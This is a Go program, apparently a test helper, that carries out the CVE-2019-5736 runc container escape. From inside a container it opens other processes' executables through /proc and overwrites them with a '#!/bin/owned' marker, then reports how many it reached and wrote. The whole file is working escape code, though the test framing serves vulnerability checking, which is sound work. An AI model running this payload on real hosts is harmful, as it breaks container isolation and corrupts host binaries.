// Command exewriter is the payload of the attack of CVE-2019-5736: from inside
// a container it looks for programs of other processes that it can open, keeps
// them open, and tries to write to them once nobody executes them any more.
// On SIGTERM it prints how many it saw and how many it could write to.
package main

import (
	"encoding/json"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	var stop atomic.Bool
	signals := make(chan os.Signal, 1)
	signal.Notify(signals, unix.SIGTERM)
	go func() {
		select {
		case <-signals:
		case <-time.After(2 * time.Minute): // never outlive a lost test
		}
		stop.Store(true)
	}()
	fmt.Println("ready")
	self, err := os.Stat("/proc/self/exe")
	if err != nil {
		fmt.Fprintln(os.Stderr, "exewriter:", err)
		os.Exit(1)
	}
	var result struct {
		Processes int `json:"processes"` // of others, looked at
		Opened    int `json:"opened"`    // programs that could be opened
		Written   int `json:"written"`   // and written to: the attack worked
	}
	held := map[uint64]*os.File{}
	for !stop.Load() {
		found, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range found {
			if dir == "/proc/"+strconv.Itoa(os.Getpid()) {
				continue
			}
			result.Processes++
			f, err := os.Open(dir + "/exe")
			if err != nil {
				continue
			}
			st, err := f.Stat()
			ino := inode(st)
			if err != nil || os.SameFile(st, self) || held[ino] != nil || inside(st) {
				f.Close()
				continue
			}
			held[ino] = f
			result.Opened++
		}
		for ino, f := range held {
			w, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(int(f.Fd())), os.O_WRONLY, 0)
			if err != nil {
				continue
			}
			if _, err := w.WriteString("#!/bin/owned\n"); err == nil {
				result.Written++
			}
			w.Close()
			f.Close()
			delete(held, ino)
		}
	}
	if err := json.NewEncoder(os.Stdout).Encode(result); err != nil {
		os.Exit(1)
	}
}

func inode(st os.FileInfo) uint64 {
	if st == nil {
		return 0
	}
	return st.Sys().(*syscall.Stat_t).Ino
}

// inside tells the container's own shell, which may be written to.
func inside(st os.FileInfo) bool {
	busybox, err := os.Stat("/bin/busybox")
	return err == nil && os.SameFile(st, busybox)
}
